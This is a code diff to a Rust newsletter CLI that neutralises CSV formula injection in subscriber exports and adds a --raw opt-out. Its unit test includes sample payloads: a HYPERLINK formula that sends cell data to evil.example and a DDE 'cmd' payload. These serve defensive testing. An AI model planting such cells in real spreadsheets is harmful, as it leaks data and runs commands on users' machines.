@@ -35,13 +35,19 @@ pub enum SubscribersCommand {
         #[arg(long)]
         rejects: Option<PathBuf>,
     },
-    /// Export subscribers as CSV (to FILE, or standard output).
+    /// Export subscribers as CSV (to FILE, or standard output when FILE is
+    /// missing or `-`). Cells that a spreadsheet would run as a formula
+    /// (starting with = + - @ TAB CR) get a leading `'`.
     Export {
         file: Option<PathBuf>,
         #[arg(long)]
         newsletter: Option<String>,
         #[arg(long)]
         state: Option<SubscriptionState>,
+        /// Write every cell exactly as stored (no formula neutralising), for
+        /// programs rather than spreadsheets.
+        #[arg(long)]
+        raw: bool,
     },
     /// List subscribers.
     List {
@@ -137,8 +143,11 @@ pub async fn run(app: &App, cmd: SubscribersCommand) -> anyhow::Result<()> {
             file,
             newsletter,
             state,
+            raw,
         } => {
             let nl = app.newsletter(newsletter.as_deref()).await?;
+            // `-` is standard output, as for every Unix tool.
+            let file = file.filter(|p| p.as_os_str() != "-");
             let out: Box<dyn Write + Send> = match &file {
                 Some(path) => Box::new(
                     std::fs::File::create(path)
@@ -169,7 +178,13 @@ pub async fn run(app: &App, cmd: SubscribersCommand) -> anyhow::Result<()> {
                         rfc3339(s.unsubscribed_at),
                         s.attributes,
                     ];
-                    if let Err(e) = w.write_record(&row) {
+                    let written = if raw {
+                        w.write_record(&row)
+                    } else {
+                        let cells = row.each_ref().map(|cell| neutralise_formula(cell));
+                        w.write_record(cells.iter().map(|cell| cell.as_bytes()))
+                    };
+                    if let Err(e) = written {
                         write_err.get_or_insert(e);
                     }
                     n += 1;
@@ -192,16 +207,19 @@ pub async fn run(app: &App, cmd: SubscribersCommand) -> anyhow::Result<()> {
             let nl = app.newsletter(newsletter.as_deref()).await?;
             let rows = app.db.list_subscribers(nl.id, state).await?;
             if json {
-                println!("{}", serde_json::to_string_pretty(&rows)?);
+                outln!("{}", serde_json::to_string_pretty(&rows)?)?;
             } else {
+                let mut out = std::io::BufWriter::new(std::io::stdout().lock());
                 for s in &rows {
-                    println!(
+                    writeln!(
+                        out,
                         "{:<40} {:<13} {}",
                         s.email,
                         s.state,
                         s.name.as_deref().unwrap_or("")
-                    );
+                    )?;
                 }
+                out.flush()?;
                 eprintln!("{} subscribers", rows.len());
             }
         }
@@ -265,6 +283,18 @@ fn rfc3339(ms: Option<i64>) -> String {
         .unwrap_or_default()
 }
 
+/// OWASP CSV injection: a cell starting with `=`, `+`, `-`, `@`, TAB or CR
+/// is a formula to Excel, LibreOffice and Google Sheets (the name field is
+/// filled in by anyone on the public form). A leading `'` makes it text; the
+/// apostrophe is not shown by spreadsheets. `--raw` turns this off.
+fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
 /// A progress bar on a terminal, nothing otherwise.
 pub(crate) fn progress_bar(len: u64) -> indicatif::ProgressBar {
     use std::io::IsTerminal;
@@ -278,4 +308,26 @@ pub(crate) fn progress_bar(len: u64) -> indicatif::ProgressBar {
         bar.set_style(style);
     }
     bar
+}
+
+#[cfg(test)]
+mod tests {
+    use super::neutralise_formula;
+
+    #[test]
+    fn formula_cells_are_neutralised_and_others_kept() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A2&B2,\"Open\")",
+            "+cmd|' /C calc'!A0",
+            "@SUM(A1:A9)",
+            "-1+1",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(neutralise_formula(cell), format!("'{cell}"));
+        }
+        for cell in ["Ann", "a@example.com", "", "1-2", " =x"] {
+            assert_eq!(neutralise_formula(cell), cell);
+        }
+    }
 }
